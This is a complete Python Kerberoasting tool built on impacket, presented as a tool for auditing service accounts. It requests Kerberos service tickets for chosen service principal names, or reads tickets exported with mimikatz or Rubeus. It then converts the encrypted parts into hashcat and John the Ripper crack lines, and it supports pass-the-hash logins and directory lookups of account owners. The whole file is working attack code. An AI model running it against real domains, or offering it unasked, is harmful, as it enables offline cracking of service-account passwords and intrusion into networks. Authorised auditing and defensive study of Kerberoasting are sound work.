#!/usr/bin/env python3
# NOTE: this script was created for auditing service accounts that are exposed to Kerberoasting.
#   It never decrypts anything, it only moves the encrypted part of each service ticket into a crackable format.
#
# Recommended Instructions:
#   Request tickets from the KDC for a list of SPNs and print hashcat lines:
#     ./tgsroast.py -dc-ip 10.0.0.1 -spn MSSQLSvc/sql01.testlab.local:1433 -format hashcat testlab.local/lowpriv:Password1
#   Stream SPNs from another tool and save a John file:
#     cat spns.txt | ./tgsroast.py -spn-file - -format john -outputfile roast.john testlab.local/lowpriv -hashes :31d6cfe0d16ae931b73c59d7e0c089c0
#   Convert tickets already exported with mimikatz/Rubeus (ccache or kirbi), no network needed:
#     ./tgsroast.py -from-ticket ./ASK_cifs-box1.testlab.local.kirbi -spn cifs/box1.testlab.local -format hashcat

import argparse, logging, os, sys, threading
from binascii import unhexlify, hexlify
from collections import namedtuple
from concurrent.futures import ThreadPoolExecutor

from pyasn1.codec.der import decoder
from pyasn1.error import PyAsn1Error

from impacket.examples import logger
from impacket.examples.utils import parse_credentials
from impacket.krb5 import constants
from impacket.krb5.asn1 import AP_REQ, TGS_REP, KRB_CRED, Ticket as TicketAsn1
from impacket.krb5.ccache import CCache
from impacket.krb5.kerberosv5 import getKerberosTGT, getKerberosTGS, KerberosError
from impacket.krb5.types import Principal
from impacket.ldap import ldap, ldapasn1
from impacket.ntlm import compute_lmhash, compute_nthash

LOG = logging.getLogger(__name__)

UNKNOWN_PRINCIPAL = "unknown"

FORMAT_HASHCAT = "hashcat"
FORMAT_JOHN = "john"
FORMAT_KERBEROAST = "kerberoast"
FORMATS = (FORMAT_HASHCAT, FORMAT_JOHN, FORMAT_KERBEROAST)

JOHN_EDATA_FIRST = "edata-first"
JOHN_CHECKSUM_FIRST = "checksum-first"
JOHN_ORDERS = (JOHN_EDATA_FIRST, JOHN_CHECKSUM_FIRST)

# RFC4757: the first 16 bytes of an RC4-HMAC cipher are the HMAC-MD5 checksum
CHECKSUM_HEX_LENGTH = 32
DUMP_SEPARATOR = "\n"
PAGE_SIZE = 1000

GSS_TAG = 0x60
OID_TAG = 0x06
KRB5_AP_REQ_TOKEN_ID = b"\x01\x00"


class RoastError(Exception):
    pass


class AcquireError(RoastError):
    """No service ticket could be obtained for an SPN."""


class DecodeError(RoastError):
    """The ticket message did not contain a readable enc-part."""


class FormatMismatch(RoastError):
    """The requested crack format cannot represent the record's algorithm."""


class EmptyBatchError(RoastError):
    pass


# Implemented from: https://www.iana.org/assignments/kerberos-parameters/kerberos-parameters.xhtml#kerberos-parameters-1
ENC_TYPE_NAMES = {
    constants.EncryptionTypes.des_cbc_crc.value : "DES-CBC-CRC",
    constants.EncryptionTypes.des_cbc_md5.value : "DES-CBC-MD5",
    constants.EncryptionTypes.aes128_cts_hmac_sha1_96.value : "AES128",
    constants.EncryptionTypes.aes256_cts_hmac_sha1_96.value : "AES256",
    constants.EncryptionTypes.rc4_hmac.value : "RC4-HMAC",
}

RC4_HMAC = constants.EncryptionTypes.rc4_hmac.value

EncryptionType = namedtuple("EncryptionType", ["code", "name"])


def classify(code):
    code = int(code)
    if code in ENC_TYPE_NAMES:
        return EncryptionType(code, ENC_TYPE_NAMES[code])
    return EncryptionType(code, "Unknown(%d)" % code)


class CrackRecord(namedtuple("CrackRecord", ["spn", "principal", "etype", "cipher"])):
    __slots__ = ()

    @property
    def cipher_hex(self):
        return hexlify(self.cipher).decode()

    def to_dict(self):
        return {"spn" : self.spn,
                "principal" : self.principal,
                "etype" : self.etype.name,
                "cipher" : self.cipher_hex}


def read_tlv(data, offset=0):
    """Read the DER header at offset.

    Returns (tag, header length, value length). Both the short form and the
    long form of the length octets are accepted, and the declared value must
    fit inside data.
    """
    if offset + 2 > len(data):
        raise DecodeError("truncated header at offset %d" % offset)
    tag = data[offset]
    if tag & 0x1f == 0x1f:
        raise DecodeError("unsupported multi-byte tag at offset %d" % offset)
    first = data[offset + 1]
    if first < 0x80:
        header, length = 2, first
    else:
        count = first & 0x7f
        if count == 0 or count > 4:
            raise DecodeError("unsupported length octet 0x%02x at offset %d" % (first, offset))
        if offset + 2 + count > len(data):
            raise DecodeError("truncated length at offset %d" % offset)
        header = 2 + count
        length = int.from_bytes(data[offset + 2:offset + header], "big")
    if offset + header + length > len(data):
        raise DecodeError("length %d at offset %d overruns the %d byte message" % (length, offset, len(data)))
    return tag, header, length


def unwrap_gss(data):
    # InitialContextToken: [APPLICATION 0] { thisMech OID, tok-id, AP-REQ }
    tag, header, length = read_tlv(data)
    if tag != GSS_TAG:
        raise DecodeError("not a GSS-API token (tag 0x%02x)" % tag)
    body = data[header:header + length]
    oid_tag, oid_header, oid_length = read_tlv(body)
    if oid_tag != OID_TAG:
        raise DecodeError("GSS-API token does not start with a mechanism OID")
    inner = body[oid_header + oid_length:]
    if inner[:2] != KRB5_AP_REQ_TOKEN_ID:
        raise DecodeError("GSS-API token does not carry an AP-REQ")
    return inner[2:]


def _ticket_of_ticket(message):
    return message


def _ticket_of_rep(message):
    return message["ticket"]


def _ticket_of_cred(message):
    return message["tickets"][0]


# outer tag -> (schema, where the Ticket lives inside it)
CONTAINERS = {
    0x61 : (TicketAsn1, _ticket_of_ticket),
    0x6d : (TGS_REP, _ticket_of_rep),
    0x6e : (AP_REQ, _ticket_of_rep),
    0x76 : (KRB_CRED, _ticket_of_cred),
}


def decode_ticket(raw):
    """Return (EncryptionType, cipher octets) for a raw ticket message."""
    data = bytes(raw)
    if not data:
        raise DecodeError("empty ticket message")
    tag, header, length = read_tlv(data)
    if tag == GSS_TAG:
        data = unwrap_gss(data)
        tag, header, length = read_tlv(data)
    if tag not in CONTAINERS:
        raise DecodeError("unexpected message tag 0x%02x" % tag)

    spec, locate = CONTAINERS[tag]
    # Anything after the declared container length is not part of the ticket
    container = data[:header + length]
    try:
        message = decoder.decode(container, asn1Spec=spec())[0]
        enc_part = locate(message)["enc-part"]
        etype = int(enc_part["etype"])
        cipher = enc_part["cipher"].asOctets()
    except (PyAsn1Error, KeyError, IndexError) as e:
        raise DecodeError("unable to locate the ticket enc-part: %s" % e)
    if not cipher:
        raise DecodeError("ticket enc-part carries no cipher")
    return classify(etype), cipher


class PrincipalResolver():
    """Maps an SPN to the UPN of the account owning it.

    Resolvers are used as context managers so a directory handle lives
    exactly as long as one batch.
    """
    def __enter__(self):
        return self

    def __exit__(self, exc_type, exc_value, traceback):
        return False

    def resolve(self, spn):
        raise NotImplementedError


class NullResolver(PrincipalResolver):
    def resolve(self, spn):
        return UNKNOWN_PRINCIPAL


def escape_filter(value):
    # RFC4515 section 3
    escaped = value.replace("\\", "\\5c")
    for char, code in (("*", "\\2a"), ("(", "\\28"), (")", "\\29"), ("\x00", "\\00")):
        escaped = escaped.replace(char, code)
    return escaped


def upn_from_entries(resp):
    for item in resp:
        if isinstance(item, ldapasn1.SearchResultEntry) is not True:
            continue
        for attribute in item["attributes"]:
            if str(attribute["type"]) == "userPrincipalName" and len(attribute["vals"]) > 0:
                return str(attribute["vals"][0])
    return None


class DirectoryResolver(PrincipalResolver):
    """Looks SPNs up in the global catalog, so owners anywhere in the forest are found."""
    def __init__(self, host, domain, username, password="", lmhash="", nthash="", aes_key="",
                 base_dn="", use_kerberos=False, kdc_host=None, connection_factory=None):
        self.host = host
        self.domain = domain
        self.username = username
        self.password = password
        self.lmhash = lmhash
        self.nthash = nthash
        self.aes_key = aes_key
        self.base_dn = base_dn
        self.use_kerberos = use_kerberos
        self.kdc_host = kdc_host
        self._connection_factory = connection_factory or ldap.LDAPConnection
        self._connection = None
        # one search handle per batch, shared by every worker
        self._lock = threading.Lock()

    def __enter__(self):
        LOG.debug("Connecting to global catalog gc://%s" % self.host)
        try:
            connection = self._connection_factory("gc://%s" % self.host, self.base_dn, self.kdc_host)
        except (ldap.LDAPSessionError, OSError) as e:
            raise RoastError("Unable to connect to the global catalog %s: %s" % (self.host, e))
        try:
            if self.use_kerberos:
                connection.kerberosLogin(self.username, self.password, self.domain, self.lmhash, self.nthash,
                                         self.aes_key, kdcHost=self.kdc_host)
            else:
                connection.login(self.username, self.password, self.domain, self.lmhash, self.nthash)
        except (ldap.LDAPSessionError, KerberosError, OSError) as e:
            connection.close()
            raise RoastError("Unable to log in to the global catalog %s: %s" % (self.host, e))
        self._connection = connection
        return self

    def __exit__(self, exc_type, exc_value, traceback):
        if self._connection is not None:
            self._connection.close()
            self._connection = None
        return False

    def resolve(self, spn):
        if self._connection is None:
            raise RoastError("DirectoryResolver must be entered before resolving")
        search_filter = "(servicePrincipalName=%s)" % escape_filter(spn)
        with self._lock:
            try:
                resp = self._connection.search(searchFilter=search_filter,
                                               attributes=["userPrincipalName"],
                                               sizeLimit=0,
                                               searchControls=[ldap.SimplePagedResultsControl(size=PAGE_SIZE)])
            except ldap.LDAPSearchError as e:
                if e.getErrorString().find("sizeLimitExceeded") >= 0:
                    LOG.debug("sizeLimitExceeded exception caught, processing the data received")
                    resp = e.getAnswers()
                else:
                    LOG.warning("Directory lookup for %s failed: %s" % (spn, e.getErrorString()))
                    return UNKNOWN_PRINCIPAL
            except (ldap.LDAPSessionError, OSError) as e:
                LOG.warning("Directory lookup for %s failed: %s" % (spn, e))
                return UNKNOWN_PRINCIPAL

        upn = upn_from_entries(resp)
        if upn is None:
            LOG.warning("No userPrincipalName found for %s" % spn)
            return UNKNOWN_PRINCIPAL
        return upn


class TicketAcquirer():
    def acquire(self, spn):
        """Return the raw ticket message for spn or raise AcquireError."""
        raise NotImplementedError


class KerberosAcquirer(TicketAcquirer):
    """Asks the KDC for a service ticket per SPN, reusing one TGT for the whole batch."""
    def __init__(self, domain, username, password="", lmhash="", nthash="", aes_key="",
                 kdc_host=None, use_kerberos=False):
        self.domain = domain
        self.username = username
        self.password = password
        self.lmhash = lmhash
        self.nthash = nthash
        self.aes_key = aes_key
        self.kdc_host = kdc_host
        self.use_kerberos = use_kerberos
        self._tgt = None
        self._tgt_error = None
        self._lock = threading.Lock()

    def _tgt_from_ccache(self):
        path = os.getenv("KRB5CCNAME")
        if not path:
            return None
        try:
            ccache = CCache.loadFile(path)
        except Exception as e:
            LOG.debug("Unable to load Kerberos cache %s: %s" % (path, e))
            return None
        LOG.debug("Using Kerberos Cache: %s" % path)
        principal = "krbtgt/%s@%s" % (self.domain.upper(), self.domain.upper())
        creds = ccache.getCredential(principal)
        if creds is None:
            LOG.debug("No valid credentials found in cache")
            return None
        LOG.debug("Using TGT from cache")
        return creds.toTGT()

    def _request_tgt(self):
        if self.use_kerberos:
            tgt = self._tgt_from_ccache()
            if tgt is not None:
                return tgt

        user = Principal(self.username, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
        lmhash, nthash = self.lmhash, self.nthash
        # Hashes force an RC4 TGT; only fall back to the cleartext password if that fails
        if self.password != "" and lmhash == "" and nthash == "" and self.aes_key == "":
            try:
                tgt, cipher, old_session_key, session_key = getKerberosTGT(
                    user, "", self.domain, compute_lmhash(self.password), compute_nthash(self.password),
                    self.aes_key, kdcHost=self.kdc_host)
                return {"KDC_REP" : tgt, "cipher" : cipher, "sessionKey" : session_key}
            except (KerberosError, OSError) as e:
                LOG.debug("TGT with derived hashes failed: %s" % e)

        try:
            tgt, cipher, old_session_key, session_key = getKerberosTGT(
                user, self.password, self.domain, unhexlify(lmhash), unhexlify(nthash),
                self.aes_key, kdcHost=self.kdc_host)
        except (KerberosError, OSError) as e:
            raise RoastError("Unable to obtain a TGT for %s@%s: %s" % (self.username, self.domain, e))
        return {"KDC_REP" : tgt, "cipher" : cipher, "sessionKey" : session_key}

    def get_tgt(self):
        with self._lock:
            # the first failed login is final for this acquirer
            if self._tgt_error is not None:
                raise self._tgt_error
            if self._tgt is None:
                try:
                    self._tgt = self._request_tgt()
                except RoastError as e:
                    self._tgt_error = e
                    raise
            return self._tgt

    def acquire(self, spn):
        tgt = self.get_tgt()
        server = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
        try:
            tgs, cipher, old_session_key, session_key = getKerberosTGS(
                server, self.domain, self.kdc_host, tgt["KDC_REP"], tgt["cipher"], tgt["sessionKey"])
        except (KerberosError, OSError) as e:
            raise AcquireError(str(e))
        return tgs


class CCacheAcquirer(TicketAcquirer):
    """Serves service tickets that were already exported to a ccache or kirbi file."""
    def __init__(self, path, ccache=None):
        self.path = path
        self._ccache = ccache if ccache is not None else self._load(path)

    @staticmethod
    def _load(path):
        try:
            if path.upper().endswith(".KIRBI"):
                return CCache.loadKirbiFile(path)
            return CCache.loadFile(path)
        except Exception as e:
            raise RoastError("Unable to load ticket file %s, make sure it is in ccache or kirbi format: %s" % (path, e))

    def acquire(self, spn):
        creds = self._ccache.getCredential(spn, anySPN=False)
        if creds is None:
            raise AcquireError("no ticket for %s in %s" % (spn, self.path))
        return creds.ticket["data"]


class RoastBatch():
    """Records collected during one roast() call."""
    def __init__(self):
        self._entries = []
        self.skipped = []
        self._lock = threading.Lock()

    def add(self, index, record):
        with self._lock:
            self._entries.append((index, record))

    def skip(self, index, spn, reason):
        with self._lock:
            self.skipped.append((index, spn, reason))

    def __len__(self):
        return len(self._entries)

    @property
    def records(self):
        return [record for index, record in sorted(self._entries, key=lambda entry: entry[0])]

    def require_records(self):
        if not self._entries:
            raise EmptyBatchError("No tickets retrieved")
        return self.records


def process_spn(batch, index, spn, acquirer, resolver):
    try:
        principal = resolver.resolve(spn)
    except (ldap.LDAPSessionError, OSError) as e:
        LOG.warning("Directory lookup for %s failed: %s" % (spn, e))
        principal = UNKNOWN_PRINCIPAL
    try:
        raw = acquirer.acquire(spn)
        etype, cipher = decode_ticket(raw)
    except (AcquireError, DecodeError) as e:
        LOG.warning("Skipping %s: %s" % (spn, e))
        batch.skip(index, spn, e)
        return None

    record = CrackRecord(spn, principal, etype, cipher)
    batch.add(index, record)
    LOG.debug("Got %s ticket for %s (%s)" % (etype.name, spn, principal))
    return record


def clean_spns(spns):
    index = 0
    for spn in spns:
        spn = spn.strip()
        if spn:
            yield index, spn
            index += 1


def split_cipher(record):
    if record.etype.code != RC4_HMAC:
        raise FormatMismatch("%s ticket cannot be expressed as $krb5tgs$23$" % record.etype.name)
    cipher = record.cipher_hex
    if len(cipher) <= CHECKSUM_HEX_LENGTH:
        raise FormatMismatch("cipher of %d bytes is shorter than an RC4-HMAC checksum" % len(record.cipher))
    return cipher[:CHECKSUM_HEX_LENGTH], cipher[CHECKSUM_HEX_LENGTH:]


def format_hashcat(record):
    checksum, edata = split_cipher(record)
    return "$krb5tgs$%d$%s$%s" % (RC4_HMAC, checksum, edata)


def format_john(record, john_order=JOHN_EDATA_FIRST):
    checksum, edata = split_cipher(record)
    if john_order == JOHN_CHECKSUM_FIRST:
        return "$krb5tgs$%d$%s$%s" % (RC4_HMAC, checksum, edata)
    return "$krb5tgs$%d$%s$%s" % (RC4_HMAC, edata, checksum)


def encode(records, output_format=None, john_order=JOHN_EDATA_FIRST):
    if output_format is None:
        return records
    if output_format not in FORMATS:
        raise ValueError("Unknown output format %r, expected one of %s" % (output_format, ", ".join(FORMATS)))
    if john_order not in JOHN_ORDERS:
        raise ValueError("Unknown John field order %r" % john_order)

    if output_format == FORMAT_KERBEROAST:
        return DUMP_SEPARATOR.join(record.cipher_hex for record in records)

    lines = []
    for record in records:
        try:
            if output_format == FORMAT_HASHCAT:
                lines.append(format_hashcat(record))
            else:
                lines.append(format_john(record, john_order))
        except FormatMismatch as e:
            LOG.warning("Skipping %s in %s output: %s" % (record.spn, output_format, e))
    if not lines:
        LOG.warning("None of the %d ticket(s) can be written in %s format" % (len(records), output_format))
    return lines


def render(output):
    if isinstance(output, str):
        return output
    lines = []
    for item in output:
        if isinstance(item, CrackRecord):
            lines.append("\t".join((item.spn, item.principal, item.etype.name, item.cipher_hex)))
        else:
            lines.append(item)
    return "".join(line + "\n" for line in lines)


def save(content, path):
    with open(path, "w", encoding="utf-8") as f:
        f.write(content)


def emit(output, output_file=None):
    if output_file is None:
        return output
    save(render(output), output_file)
    LOG.info("Output written to %s" % output_file)
    return True


def roast(spns, acquirer, resolver=None, output_format=None, output_file=None, workers=1,
          john_order=JOHN_EDATA_FIRST):
    """Request, decode and encode a ticket for every SPN in spns.

    spns may be any iterable and is consumed lazily. Per-SPN failures are
    logged and skipped; EmptyBatchError is raised when nothing was retrieved.
    Returns the encoded output, or True once it was written to output_file.
    """
    if output_format is not None and output_format not in FORMATS:
        raise ValueError("Unknown output format %r, expected one of %s" % (output_format, ", ".join(FORMATS)))
    if resolver is None:
        resolver = NullResolver()

    batch = RoastBatch()
    with resolver:
        if workers <= 1:
            for index, spn in clean_spns(spns):
                process_spn(batch, index, spn, acquirer, resolver)
        else:
            with ThreadPoolExecutor(max_workers=workers) as executor:
                futures = [executor.submit(process_spn, batch, index, spn, acquirer, resolver)
                           for index, spn in clean_spns(spns)]
                try:
                    for future in futures:
                        future.result()
                except RoastError:
                    for future in futures:
                        future.cancel()
                    raise

    records = batch.require_records()
    LOG.info("Retrieved %d ticket(s), skipped %d SPN(s)" % (len(records), len(batch.skipped)))
    return emit(encode(records, output_format, john_order), output_file)


def iter_spns(options):
    for spn in options.spn or []:
        yield spn
    if options.spn_file == "-":
        for line in sys.stdin:
            yield line
    elif options.spn_file is not None:
        with open(options.spn_file, "r", encoding="utf-8") as f:
            for line in f:
                yield line


def build_collaborators(options):
    domain, username, password = parse_credentials(options.target)
    lmhash, nthash = "", ""
    if options.hashes is not None:
        lmhash, nthash = options.hashes.split(":")
    aes_key = options.aesKey or ""
    if options.aesKey is not None:
        options.k = True

    if password == "" and username != "" and options.hashes is None and options.no_pass is False and options.aesKey is None:
        from getpass import getpass
        password = getpass("Password:")

    if options.from_ticket is not None:
        acquirer = CCacheAcquirer(options.from_ticket)
    else:
        if domain == "":
            raise RoastError("A domain is required to request service tickets, use domain/username")
        acquirer = KerberosAcquirer(domain, username, password, lmhash, nthash, aes_key,
                                    kdc_host=options.dc_ip, use_kerberos=options.k)

    if options.no_resolve:
        resolver = NullResolver()
    elif domain == "" or (username == "" and not options.k):
        LOG.info("No directory credentials given, principals will be reported as %s" % UNKNOWN_PRINCIPAL)
        resolver = NullResolver()
    else:
        resolver = DirectoryResolver(options.gc_host or options.dc_ip or domain, domain, username, password,
                                     lmhash, nthash, aes_key, base_dn=options.base_dn,
                                     use_kerberos=options.k, kdc_host=options.dc_ip)
    return acquirer, resolver


def print_output(output):
    if isinstance(output, str):
        print(output)
        return
    for item in output:
        if isinstance(item, CrackRecord):
            print("ServicePrincipalName:\t", item.spn)
            print("Principal:\t\t", item.principal)
            print("Encryption:\t\t", item.etype.name)
            print("Cipher:\t\t\t", item.cipher_hex)
            print("")
        else:
            print(item)


def parseArgs(argv=None):
    parser = argparse.ArgumentParser(add_help=True, description="Requests Kerberos service tickets for a list of SPNs and "
                                                                 "converts them to offline cracking formats")
    parser.add_argument('target', nargs='?', default='', action='store', help='[[domain/]username[:password]] used to request tickets and query the directory')
    parser.add_argument('-spn', action='append', metavar='SPN', help='service principal name to roast (can be repeated)')
    parser.add_argument('-spn-file', action='store', metavar='FILE', help='file with one SPN per line, - reads stdin')
    parser.add_argument('-format', action='store', choices=FORMATS, default=None, help='output format (default: print the records)')
    parser.add_argument('-john-order', action='store', choices=JOHN_ORDERS, default=JOHN_EDATA_FIRST, help='hex field order of John lines')
    parser.add_argument('-outputfile', action='store', metavar='FILE', help='save output to FILE instead of printing it')
    parser.add_argument('-threads', action='store', type=int, default=1, help='number of SPNs processed in parallel (default 1)')
    parser.add_argument('-from-ticket', action='store', metavar='FILE', help='take tickets from a ccache or kirbi file instead of the KDC')

    group = parser.add_argument_group('directory')
    group.add_argument('-no-resolve', action='store_true', help='do not look up the account owning each SPN')
    group.add_argument('-gc-host', action='store', metavar='HOST', help='global catalog to query (default: -dc-ip or the domain)')
    group.add_argument('-base-dn', action='store', default='', metavar='DN', help='search base, empty searches the whole forest')

    group = parser.add_argument_group('authentication')
    group.add_argument('-hashes', action='store', metavar='LMHASH:NTHASH', help='NTLM hashes, format is LMHASH:NTHASH')
    group.add_argument('-no-pass', action='store_true', help='don\'t ask for password (useful for -k)')
    group.add_argument('-k', action='store_true', help='Use Kerberos authentication. Grabs credentials from ccache file (KRB5CCNAME)')
    group.add_argument('-aesKey', action='store', metavar='hex key', help='AES key to use for Kerberos Authentication (128 or 256 bits)')
    group.add_argument('-dc-ip', action='store', metavar='ip address', help='IP Address of the domain controller / KDC')

    parser.add_argument('-ts', action='store_true', help='Adds timestamp to every logging output')
    parser.add_argument('-debug', action='store_true', help='Turn DEBUG output ON')

    if argv is None and len(sys.argv) == 1:
        parser.print_help(sys.stderr)
        print("\nExample:\n\t./tgsroast.py -dc-ip 10.0.0.1 -spn MSSQLSvc/sql01.testlab.local:1433 -format hashcat testlab.local/lowpriv:Password1")
        sys.exit(1)

    options = parser.parse_args(argv)
    if not options.spn and options.spn_file is None:
        parser.error("at least one of -spn or -spn-file is required")
    if options.threads < 1:
        parser.error("-threads must be at least 1")
    if options.hashes is not None:
        parts = options.hashes.split(":")
        try:
            if len(parts) != 2:
                raise ValueError
            unhexlify(parts[0])
            unhexlify(parts[1])
        except ValueError:
            parser.error("-hashes must be LMHASH:NTHASH in hex")
    return options


def main(argv=None):
    options = parseArgs(argv)
    logger.init(options.ts)
    if options.debug is True:
        logging.getLogger().setLevel(logging.DEBUG)
    else:
        logging.getLogger().setLevel(logging.INFO)

    try:
        acquirer, resolver = build_collaborators(options)
        result = roast(iter_spns(options), acquirer, resolver, options.format, options.outputfile,
                       options.threads, options.john_order)
    except RoastError as e:
        if options.debug is True:
            LOG.debug("Exception:", exc_info=True)
        LOG.error(str(e))
        return 1

    if options.outputfile is None:
        print_output(result)
    return 0


if __name__ == '__main__':
    sys.exit(main())
